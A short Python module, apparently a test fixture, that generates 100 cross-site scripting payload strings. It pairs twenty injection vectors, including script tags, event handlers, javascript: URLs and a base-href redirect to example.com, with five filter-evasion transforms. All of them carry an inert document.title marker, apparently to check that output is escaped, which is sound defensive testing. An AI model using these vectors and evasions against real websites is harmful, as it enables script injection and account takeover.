"""Texts that would run a script, were they not shown as text."""

HIT = "document.title='taken'"
CALLS = (
    "<script>{hit}</script>",
    '"><script>{hit}</script>',
    "'><img src=x onerror={hit}>",
    '"><svg onload={hit}>',
    "</title><script>{hit}</script>",
    "<iframe srcdoc='<script>parent.{hit}</script>'></iframe>",
    '" autofocus onfocus="{hit}',
    "' onmouseover='{hit}",
    "javascript:{hit}",
    "{{{{ 7*7 }}}}<b onclick={hit}>",
    '</textarea><img src=x onerror="{hit}">',
    "<details open ontoggle={hit}>",
    "<math><mtext></math><img src onerror={hit}>",
    '<a href="javascript:{hit}">x</a>',
    "<style>@import 'javascript:{hit}'</style>",
    "<base href=//example.com/><script src=/x.js></script>{hit}",
    '<meta http-equiv=refresh content="0;url=javascript:{hit}">',
    "<form action=javascript:{hit}><button>x</button></form>",
    "<div hx-get=/sign-out hx-trigger=load hx-on:click={hit}>",
    "--><script>{hit}</script><!--",
)
WAYS = (
    lambda text: text,
    lambda text: text.replace("script", "scRipt").replace("img", "ImG"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace("<", "\N{FULLWIDTH LESS-THAN SIGN}<"),
    lambda text: f"&#60;{text}&#62;",
)
PAYLOADS = tuple(
    f"{number:03d}{way(call.format(hit=HIT))}"
    for number, (way, call) in enumerate((w, c) for w in WAYS for c in CALLS)
)
assert len(PAYLOADS) == 100
